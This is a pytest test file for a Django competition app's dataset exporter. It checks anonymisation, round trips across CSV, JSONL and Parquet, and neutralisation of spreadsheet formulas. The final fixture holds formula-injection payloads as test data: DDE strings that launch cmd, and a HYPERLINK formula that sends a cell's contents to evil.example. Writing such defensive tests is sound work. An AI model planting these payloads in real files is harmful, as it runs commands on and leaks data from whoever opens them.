"""Round trips: each format read back with pandas matches the database, anonymized."""

import csv
import io
import json
from datetime import UTC

import pytest

from chat.models import Conversation, Judgment, Message
from exports.builder import ExportRequest, iter_batches, load_conversations, table_specs
from exports.pseudonyms import Pseudonymizer, new_salt
from hulic.csv_cells import FORMULA_STARTS
from tests.exports.conftest import RAW_FLAGGED_TEXT
from tests.exports.helpers import jsonl_records, read_archive, run_export, tables

FORMATS = ["csv", "jsonl", "parquet"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_round_trip_matches_the_database(dataset, fmt):
    job = run_export(dataset["competition"], fmt=fmt)

    assert job.status == "done", job.error
    frames = tables(job)
    finished = Message.objects.filter(conversation__in=dataset["conversations"])
    assert len(frames["messages"]) == finished.count() == 17
    assert len(frames["judgments"]) == Judgment.objects.count() == 5
    assert job.counts == {"conversations": 4, "messages": 17, "judgments": 5, "evaluators": 3}
    messages = frames["messages"]
    assert messages["conversation"].nunique() == 4
    assert sorted(messages.groupby("conversation")["seq"].max().tolist()) == [4, 4, 4, 5]
    assert 'hello, line 1\nsecond line, with "quotes"' in set(messages["text"])
    flagged = messages[messages["flagged"].astype(bool)]
    assert flagged["text"].tolist() == ["my phone is ***** zebra"]
    assert set(messages["speaker_kind"]) == {"evaluator", "bot"}
    judgments = frames["judgments"]
    assert sorted(judgments["verdict"].tolist()) == ["bot", "bot", "bot", "bot", "human"]
    assert judgments["correct"].astype(bool).sum() == 4
    assert set(judgments["rating_fluency"].astype(int)) == {3}
    # One evaluator keeps one pseudonym across messages and judgments.
    assert set(judgments["judge"]) <= set(messages["speaker"])
    archive = read_archive(job)
    assert "DATASHEET.md" in archive
    assert "reveal after judgment: off" in archive["DATASHEET.md"].decode()


def test_jsonl_nests_messages_and_judgments_per_conversation(dataset):
    records = jsonl_records(run_export(dataset["competition"], fmt="jsonl"))

    assert len(records) == 4
    control = next(r for r in records if r["partner_kind"] == "human")
    assert control["bot"] is None
    assert control["evaluator_a"] != control["evaluator_b"]
    assert {j["judge"] for j in control["judgments"]} == {control["evaluator_a"], control["evaluator_b"]}
    assert [m["seq"] for m in control["messages"]] == [1, 2, 3, 4]
    assert all(len(r["judgments"]) >= 1 for r in records)


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_username_email_id_or_raw_flagged_text_leaves_the_database(dataset, fmt, django_user_model):
    job = run_export(dataset["competition"], fmt=fmt)

    forbidden = [RAW_FLAGGED_TEXT, "botqzx-alpha", "botqzx-beta", "Team Qzx A", "Team Qzx B"]
    for user in django_user_model.objects.all():
        forbidden += [user.username, user.email]
    for conversation in dataset["conversations"]:
        forbidden += [str(conversation.public_id), str(conversation.bot_conversation_id)]
    for name, content in read_archive(job).items():
        text = content.decode("utf-8", errors="replace") if not name.endswith(".parquet") else str(tables(job))
        for secret in forbidden:
            assert secret not in text, f"{secret!r} found in {name}"


def test_bot_and_team_names_are_exported_when_the_competition_allows(dataset):
    competition = dataset["competition"]
    competition.include_bot_names_in_exports = True
    competition.save(update_fields=["include_bot_names_in_exports"])

    messages = tables(run_export(competition, fmt="csv"))["messages"]

    assert set(messages["bot"].dropna()) == {"botqzx-alpha", "botqzx-beta"}
    assert set(messages["team"].dropna()) == {"Team Qzx A", "Team Qzx B"}


def test_team_export_holds_only_that_teams_bot_chats(dataset):
    job = run_export(dataset["competition"], fmt="parquet", scope="team", team=dataset["team_a"])

    frames = tables(job)
    assert frames["messages"]["conversation"].nunique() == 2
    assert set(frames["messages"]["partner_kind"]) == {"bot"}
    assert len(frames["judgments"]) == 2


def test_database_pseudonyms_equal_the_python_hmac(dataset):
    """On Postgres the HMAC is computed in SQL; it must equal Python's for the same salt."""
    salt = new_salt()
    request = ExportRequest(competition=dataset["competition"], scope="all", format="csv", team=None, salt=salt)
    spec = table_specs(request)["conversations"]
    rows = [row for batch in iter_batches(spec, request) for row in batch.to_pylist()]
    pseudonym = Pseudonymizer(salt)

    assert [row["conversation"] for row in rows] == [pseudonym("conversation", row["_k"]) for row in rows]
    by_key = {c.pk: c for c in dataset["conversations"]}
    assert [row["evaluator_a"] for row in rows] == [
        pseudonym("evaluator", by_key[r["_k"]].evaluator_a_id) for r in rows
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_with_no_conversations_is_empty_but_complete(db, fmt):
    from competitions.models import Competition

    competition = Competition.objects.create(slug="empty-cup", title="Empty Cup")
    job = run_export(competition, fmt=fmt)

    assert job.status == "done", job.error
    assert job.counts == {"conversations": 0, "messages": 0, "judgments": 0, "evaluators": 0}
    assert "DATASHEET.md" in read_archive(job)


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_outside_a_transaction_streams_the_same_rows(dataset, fmt):
    """Committed data takes the production path on Postgres (COPY on its own connection into a pipe)."""
    job = run_export(dataset["competition"], fmt=fmt)

    assert job.status == "done", job.error
    frames = tables(job)
    assert len(frames["messages"]) == 17
    assert len(frames["judgments"]) == 5
    assert frames["messages"]["flagged"].astype(bool).sum() == 1


def test_messages_of_a_chat_that_ends_during_the_export_are_left_out(dataset):
    """Conversations are read before messages; a chat ending in between must not bring context-less rows."""
    request = ExportRequest(competition=dataset["competition"], scope="all", format="csv", team=None, salt=new_salt())
    specs = table_specs(request)
    conversations = load_conversations(specs, request)
    Conversation.objects.filter(status=Conversation.Status.ACTIVE).update(status=Conversation.Status.ENDED)

    rows = [row for batch in iter_batches(specs["messages"], request, conversations) for row in batch.to_pylist()]

    assert len(rows) == 17
    assert all(row["conversation"] and row["speaker"] for row in rows)


def test_csv_timestamps_are_utc_text_with_a_z(dataset):
    judgments = tables(run_export(dataset["competition"], fmt="csv"))["judgments"]

    saved = sorted(j.created_at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%fZ") for j in Judgment.objects.all())
    assert sorted(judgments["created_at"]) == saved


def test_an_export_carries_the_analysis_plan_with_its_hash(dataset):
    from leaderboard.models import AnalysisPlan
    from leaderboard.plan import plan_hash
    from leaderboard.services import analysis_plan_record

    competition = dataset["competition"]
    competition.phase = "evaluation"
    competition.save(update_fields=["phase"])
    locked = analysis_plan_record(competition=competition)

    job = run_export(competition, fmt="csv")

    plan = json.loads(read_archive(job)["ANALYSIS_PLAN.json"])
    assert [version["sha256"] for version in plan["versions"]] == [locked.sha256]
    assert plan["versions"][0]["kind"] == AnalysisPlan.Kind.LOCKED
    assert plan_hash(plan["versions"][0]["plan"]) == locked.sha256


HOSTILE_TEXT = "=cmd|' /C calc'!A0"
HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_BOT = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
HOSTILE_TEAM = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(dataset):
    from chat.models import Judgment, Message

    competition = dataset["competition"]
    competition.include_bot_names_in_exports = True
    competition.save(update_fields=["include_bot_names_in_exports"])
    bot = competition.bots.get(name="botqzx-alpha")
    bot.name = HOSTILE_BOT
    bot.save(update_fields=["name"])
    bot.team.name = HOSTILE_TEAM
    bot.team.save(update_fields=["name"])
    conversation = dataset["conversations"][0]
    Message.objects.filter(conversation=conversation, seq=1).update(text=HOSTILE_TEXT, delivered_text=HOSTILE_TEXT)
    Message.objects.filter(conversation=conversation, seq=2).update(text="\t-tabbed", delivered_text="\t-tabbed")
    Judgment.objects.filter(conversation=conversation).update(reason=HOSTILE_REASON)
    return dataset


def test_csv_exports_neutralise_formulas_in_text_cells(hostile):
    files = read_archive(run_export(hostile["competition"], fmt="csv"))
    cells = {
        name: [cell for row in csv.reader(io.StringIO(files[name].decode(), newline="")) for cell in row]
        for name in files
        if name.endswith(".csv")
    }

    for raw in (HOSTILE_TEXT, HOSTILE_BOT, HOSTILE_TEAM, "\t-tabbed"):
        assert "'" + raw in cells["messages.csv"]
    assert "'" + HOSTILE_REASON in cells["judgments.csv"]
    for name, values in cells.items():
        formulas = [cell for cell in values if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
        assert formulas == [], name


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_text_exact(hostile, fmt):
    exported = tables(run_export(hostile["competition"], fmt=fmt))

    assert HOSTILE_TEXT in set(exported["messages"]["text"])
    assert "\t-tabbed" in set(exported["messages"]["text"])
    assert HOSTILE_REASON in set(exported["judgments"]["reason"])
